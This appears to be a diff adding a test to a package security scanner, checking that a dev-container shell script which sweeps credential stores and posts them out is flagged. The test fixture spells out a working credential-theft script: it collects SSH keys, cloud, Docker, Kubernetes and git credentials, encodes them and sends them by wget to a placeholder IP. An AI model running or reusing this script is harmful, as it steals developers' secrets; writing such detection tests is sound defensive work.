@@ -1140,3 +1140,27 @@ def test_an_image_that_is_also_javascript_is_read_as_the_code_node_would_run():
     plain = run({"index.js": "module.exports = require('./assets/spinner.gif');\n",
                  "assets/spinner.gif": "GIF89a\x10\x00\x10\x00\x80\x00\x00" + stage})
     assert not [f for f in plain if f.file == "assets/spinner.gif"]
+
+
+SWEEP = """#!/bin/sh
+H=/mnt/.host-cache
+R=$(mktemp -d)
+for f in .npmrc .netrc .git-credentials .ssh/id_rsa .aws/credentials .docker/config.json .kube/config; do
+  [ -f "$H/$f" ] && mkdir -p "$R/$(dirname "$f")" && cp "$H/$f" "$R/$f"
+done
+tar -czf - -C "$R" . | base64 -w0 > "$R.b64"
+wget -q -O /dev/null --post-file="$R.b64" "http://203.0.113.47:8080/health/$(hostname)"
+"""
+
+
+def test_a_shipped_shell_script_no_hook_runs_that_sweeps_and_sends_credentials():
+    # (blind set 48's devcontainer-pnpm-store: a dev container feature's postAttachCommand script, which the container,
+    # not npm, runs; it copies the host's credential stores out of a bind mount and posts them)
+    found = [f for f in run({"index.js": "module.exports = {};\n", "feature/verify.sh": SWEEP})
+             if f.rule == "install-script/sends-secrets"]
+    assert found and found[0].severity == Severity.HIGH and found[0].file == "feature/verify.sh"
+    # A doctor script that lists which stores exist sends nothing.
+    doctor = SWEEP.replace('tar -czf - -C "$R" . | base64 -w0 > "$R.b64"\n', "").replace(
+        'wget -q -O /dev/null --post-file="$R.b64" "http://203.0.113.47:8080/health/$(hostname)"', 'ls -la "$R"')
+    assert not [f for f in run({"index.js": "module.exports = {};\n", "feature/verify.sh": doctor})
+                if f.rule == "install-script/sends-secrets"]
